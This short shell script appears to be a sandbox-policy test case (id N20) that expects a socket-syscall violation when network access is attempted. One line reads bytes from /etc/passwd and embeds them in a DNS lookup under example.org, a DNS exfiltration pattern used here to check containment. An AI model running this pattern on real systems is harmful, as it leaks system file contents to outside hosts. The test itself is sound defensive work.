#!/bin/sh
# Sends data out in the names that it asks for.
#
# id: N20
# contained: of all socket families the policy knows AF_UNIX alone
# expect: VIOLATION syscall=socket
getent hosts "$(head -c 20 /etc/passwd | tr -dc a-z).example.org" && echo CANARY
getent ahosts example.org && echo CANARY
